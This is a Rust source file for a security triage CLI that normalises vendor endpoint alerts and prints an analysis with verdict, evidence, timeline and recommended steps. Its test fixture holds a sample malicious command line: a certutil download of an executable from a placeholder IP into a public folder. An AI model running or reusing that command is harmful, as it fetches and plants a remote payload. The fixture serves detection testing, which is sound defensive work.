//! `aside alert`: a vendor's raw alert in, what the panel would show out.

use std::io::{Read, Write as _};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use aside_analyst::rules::RuleSet;
use aside_backend::platforms::{REGISTRY, Registration, document, registration};
use aside_shared::alert::{Alert, AlertKind, EntityKind, Outcome, Severity, SeverityLevel};
use aside_shared::analysis::{Analysis, ClaimKind, Verdict};
use aside_shared::id::{EntityId, EvidenceId};
use aside_shared::instant::{Clock, Instant, utc};
use aside_shared::text::{plain, shorten, visible};
use serde_json::Value;

/// Shows what the panel would show of a vendor's raw alert.
#[derive(clap::Args)]
#[command(after_help = "\
Reads what the vendor's API answers, one of its resources, a list of them, or JSON lines; UTF-8 or UTF-16.
With --json one alert is the object {alert, analysis}; several are a list of these, in their order.
Exit code: 0 every alert was read; 1 something was not, and standard error says what; 2 wrong arguments.")]
pub struct AlertArgs {
    /// The platform that the alert comes from.
    #[arg(long)]
    platform: String,
    /// Normalised alert and analysis as JSON.
    #[arg(long)]
    json: bool,
    /// The file; `-` is standard input.
    #[arg(default_value = "-")]
    file: PathBuf,
}

/// The largest document that is read, in MiB.
const DOCUMENT_MAX_MIB: u64 = 32;

/// Reads, analyses, prints. What cannot be read is said, and keeps nothing else from being shown.
pub fn run(args: AlertArgs) -> Result<ExitCode, String> {
    let vendor = registration(&args.platform).ok_or_else(|| {
        let known: Vec<_> = REGISTRY.iter().map(|it| it.platform).collect();
        let given = visible(&args.platform);
        format!("--platform {given}: allowed are {}", known.join(", "))
    })?;
    let place = if args.file.as_os_str() == "-" {
        "standard input".to_owned()
    } else {
        args.file.display().to_string()
    };
    let values = read(&args.file)
        .and_then(|bytes| document::values(&bytes))
        .map_err(|why| format!("{place}: {why}"))?;
    let shown = show(vendor, &values, args.json)?;
    for (at, why) in &shown.refused {
        let record = at.map(|at| format!(", record {at}")).unwrap_or_default();
        eprintln!("aside: {place}{record}: {}", visible(why));
    }
    if !shown.out.is_empty() {
        match writeln!(std::io::stdout(), "{}", shown.out) {
            // Whoever reads had enough.
            Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => {}
            written => written.map_err(|e| e.to_string())?,
        }
    }
    Ok(match shown.refused[..] {
        [] => ExitCode::SUCCESS,
        _ => ExitCode::FAILURE,
    })
}

/// What is printed, and which records were not read: which of several, counted from 1, and why.
struct Shown {
    out: String,
    refused: Vec<(Option<usize>, String)>,
}

fn show(vendor: &Registration, values: &[Value], as_json: bool) -> Result<Shown, String> {
    let records: Vec<Result<Alert, String>> = values
        .iter()
        .flat_map(|value| (vendor.normalise)(&"export".into(), value))
        .collect();
    let several = records.len() > 1;
    let mut read = Vec::new();
    let mut refused = Vec::new();
    for (at, alert) in records.into_iter().enumerate() {
        match alert {
            Ok(alert) => {
                let analysis = aside_analyst::analyse(RuleSet::built_in(), &alert);
                read.push((alert, analysis));
            }
            Err(why) => refused.push((several.then_some(at + 1), why)),
        }
    }
    let out = if as_json {
        json(&read, several)?
    } else {
        let texts: Vec<_> = read
            .iter()
            .map(|(alert, analysis)| text(alert, analysis))
            .collect();
        texts.join("\n\n")
    };
    Ok(Shown {
        out: out.trim_end().to_owned(),
        refused,
    })
}

/// One alert is an object, several are a list of these: also where only one of several could be read.
fn json(read: &[(Alert, Analysis)], several: bool) -> Result<String, String> {
    let object = |(alert, analysis): &(Alert, Analysis)| serde_json::json!({ "alert": alert, "analysis": analysis });
    let out = match read {
        [one] if !several => serde_json::to_string_pretty(&object(one)),
        [] if !several => return Ok(String::new()),
        all => serde_json::to_string_pretty(&all.iter().map(object).collect::<Vec<_>>()),
    };
    out.map_err(|e| e.to_string())
}

fn read(file: &Path) -> Result<Vec<u8>, String> {
    let input: Box<dyn Read> = if file.as_os_str() == "-" {
        Box::new(std::io::stdin())
    } else {
        Box::new(std::fs::File::open(file).map_err(|e| e.to_string())?)
    };
    let max = DOCUMENT_MAX_MIB * 1024 * 1024;
    let mut bytes = Vec::new();
    input
        .take(max + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| e.to_string())?;
    if bytes.len() as u64 > max {
        return Err(format!(
            "it is larger than {DOCUMENT_MAX_MIB} MiB; give fewer alerts at a time"
        ));
    }
    Ok(bytes)
}

/// What is shown of one of the vendor's texts, in characters.
const RECORD_MAX: usize = 400;

/// What the vendor says, before what Aside says of it.
fn record(alert: &Alert) -> Vec<String> {
    let mut lines = Vec::new();
    let mut line = |name: &str, value: String| {
        if !value.is_empty() {
            let value = visible(&shorten(&value, RECORD_MAX));
            lines.push(format!("  {name:<11}{value}"));
        }
    };
    let names = |ids: &[EntityId]| {
        let names: Vec<_> = ids
            .iter()
            .filter_map(|id| alert.entity(id))
            .map(|entity| match &entity.kind {
                EntityKind::Host(host) if host.name.is_none() => format!("{} (no name)", host.id),
                kind => kind.name().to_owned(),
            })
            .collect();
        names.join(", ")
    };
    line("id", alert.key.id.to_string());
    line("severity", severity(&alert.severity));
    line("status", alert.status.clone().unwrap_or_default());
    line(
        "happened",
        alert.occurred.as_ref().map(when).unwrap_or_default(),
    );
    line(
        "created",
        alert.created.as_ref().map(when).unwrap_or_default(),
    );
    line("hosts", names(&alert.hosts));
    line("accounts", names(&alert.users));
    line("sensor", sensor(alert));
    let attacks: Vec<_> = alert
        .attacks
        .iter()
        .map(|it| {
            let parts = [&it.tactic, &it.technique, &it.technique_id];
            parts
                .into_iter()
                .flatten()
                .cloned()
                .collect::<Vec<_>>()
                .join(" / ")
        })
        .filter(|it| !it.is_empty())
        .collect();
    line("ATT&CK", attacks.join("; "));
    line("says", alert.description.clone().unwrap_or_default());
    line("link", alert.console_url.clone().unwrap_or_default());
    lines
}

/// The vendor's word; of a number, what it means.
fn severity(severity: &Severity) -> String {
    let level = match severity.level {
        SeverityLevel::Unknown => "not known",
        SeverityLevel::Informational => "informational",
        SeverityLevel::Low => "low",
        SeverityLevel::Medium => "medium",
        SeverityLevel::High => "high",
        SeverityLevel::Critical => "critical",
    };
    match &severity.raw {
        Some(raw) if raw.eq_ignore_ascii_case(level) => raw.clone(),
        Some(raw) => format!("{raw} ({level})"),
        None => "not given".to_owned(),
    }
}

fn when(at: &Instant) -> String {
    let clock = match at.clock {
        Clock::Endpoint => "endpoint's clock",
        Clock::Cloud => "cloud's clock",
    };
    format!("{} ({clock})", utc(at.unix_ms))
}

fn sensor(alert: &Alert) -> String {
    let outcome = match alert.disposition.outcome {
        Outcome::Blocked => "stopped it",
        Outcome::Attempted => "acted on it",
        Outcome::Happened => "did not stop it",
        Outcome::Unknown => return alert.disposition.text.clone().unwrap_or_default(),
    };
    let mut words = outcome.to_owned();
    if !alert.disposition.measures.is_empty() {
        words.push_str(": ");
        words.push_str(&alert.disposition.measures.join(", "));
    }
    if let Some(text) = &alert.disposition.text {
        words.push_str(&format!(" ({text})"));
    }
    words
}

fn kind(kind: &AlertKind) -> String {
    match kind {
        AlertKind::Endpoint => "endpoint".to_owned(),
        AlertKind::ManagedHunting => "managed hunting".to_owned(),
        AlertKind::Identity => "identity".to_owned(),
        AlertKind::Mobile => "mobile".to_owned(),
        AlertKind::Cloud => "cloud".to_owned(),
        AlertKind::Siem => "SIEM".to_owned(),
        AlertKind::Unknown(word) if word.is_empty() => "of no known kind".to_owned(),
        AlertKind::Unknown(word) => format!("{}: no known kind", visible(word)),
    }
}

fn verdict(analysis: &Analysis) -> String {
    let assessment = &analysis.assessment;
    let percent = assessment.shown_percent();
    match assessment.verdict {
        Verdict::Malicious => format!("malicious, {percent} % by rule weights"),
        Verdict::Suspicious => format!("suspicious, {percent} % malicious by rule weights"),
        Verdict::Benign => format!("benign, {percent} % by rule weights"),
        Verdict::Unknown => "not known".to_owned(),
    }
}

fn text(alert: &Alert, analysis: &Analysis) -> String {
    let mut lines = Vec::new();
    let assessment = &analysis.assessment;
    lines.push(format!(
        "{}  ({})",
        visible(&alert.title),
        kind(&alert.kind)
    ));
    lines.push(format!(
        "{:?} {}, {}: {}",
        assessment.priority,
        assessment.priority.word(),
        verdict(analysis),
        visible(&assessment.cause)
    ));
    lines.extend(record(alert));
    let cite = |evidence: &[EvidenceId]| {
        evidence
            .iter()
            .map(EvidenceId::as_str)
            .collect::<Vec<_>>()
            .join(" ")
    };
    lines.push("\nWhat happened".to_owned());
    for claim in &analysis.claims {
        let mark = if matches!(claim.kind, ClaimKind::Gap(_)) {
            "?"
        } else {
            "-"
        };
        lines.push(format!(
            "  {mark} {} [{}]",
            plain(&claim.sentence),
            cite(&claim.evidence)
        ));
    }
    lines.push("\nWhy".to_owned());
    lines.push(format!("  {:+4}  assumed base rate", assessment.score.base));
    for group in &assessment.score.groups {
        lines.push(format!("  {:+4}  {}", group.points, visible(&group.name)));
        for signal in &group.signals {
            let techniques: Vec<_> = signal.techniques.iter().map(|it| it.id.as_str()).collect();
            lines.push(format!(
                "        {} {}",
                plain(&signal.sentence),
                techniques.join(" ")
            ));
        }
    }
    lines.push(format!("  {:+4}  in all", assessment.score.total));
    lines.push("\nTimeline (UTC)".to_owned());
    for entry in &analysis.timeline {
        let mark = if entry.telling { "*" } else { " " };
        lines.push(format!(
            "  {} {mark} {}",
            entry.at.utc_clock(),
            plain(&entry.sentence)
        ));
    }
    lines.push("\nDo next".to_owned());
    if analysis.recommendations.is_empty() {
        lines.push("  nothing that the record gives a reason for".to_owned());
    }
    for step in &analysis.recommendations {
        lines.push(format!(
            "  - {}: {}",
            plain(&step.title),
            visible(&step.reason)
        ));
    }
    lines.push(String::new());
    lines.join("\n")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn falcon() -> &'static Registration {
        registration("crowdstrike").unwrap()
    }

    fn encoded_command() -> Value {
        json!({
            "composite_id": "c:ind:a:1", "product": "epp", "type": "ldt", "display_name": "Suspicious\u{202e} script",
            "severity": 70, "agent_id": "a", "description": "A script that hides what it does.",
            "device": { "device_id": "a", "hostname": "FIN-LT-9", "platform_name": "Windows" },
            "cmdline": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", "filename": "certutil.exe", "process_id": "7",
            "pattern_disposition_details": { "kill_process": true }, "timestamp": "2026-01-01T10:00:00Z",
        })
    }

    #[test]
    fn the_text_says_what_the_vendor_says_and_what_aside_makes_of_it() {
        let shown = show(falcon(), &[encoded_command()], false).unwrap();
        assert!(shown.refused.is_empty());
        for part in [
            "Suspicious⟦U+202E⟧ script  (endpoint)",
            "70 (high)",
            "2026-01-01 10:00:00 UTC (cloud's clock)",
            "FIN-LT-9",
            "acted on it: kill_process",
            "What happened\n  - ",
            "\nWhy\n",
            "\nTimeline (UTC)\n",
            "\nDo next\n",
        ] {
            assert!(shown.out.contains(part), "{part:?} is not in {}", shown.out);
        }
    }

    #[test]
    fn one_alert_is_an_object_and_several_are_a_list() {
        let parsed = |values: &[Value]| {
            let shown = show(falcon(), values, true).unwrap();
            (serde_json::from_str::<Value>(&shown.out), shown.refused)
        };
        let (one, refused) = parsed(&[encoded_command()]);
        let one = one.unwrap();
        assert!(refused.is_empty());
        assert_eq!(one["alert"]["key"]["id"], "c:ind:a:1");
        assert!(one["analysis"]["claims"].is_array());
        let (two, _) = parsed(&[encoded_command(), encoded_command()]);
        assert_eq!(two.unwrap(), json!([one, one]));
        let (some, refused) = parsed(&[json!([encoded_command(), { "hello": 1 }])]);
        assert_eq!(some.unwrap(), json!([one]));
        assert_eq!(refused[0].0, Some(2));
        let (none, refused) = parsed(&[json!({ "hello": 1 })]);
        assert!(none.is_err() && refused[0].0.is_none());
    }
}
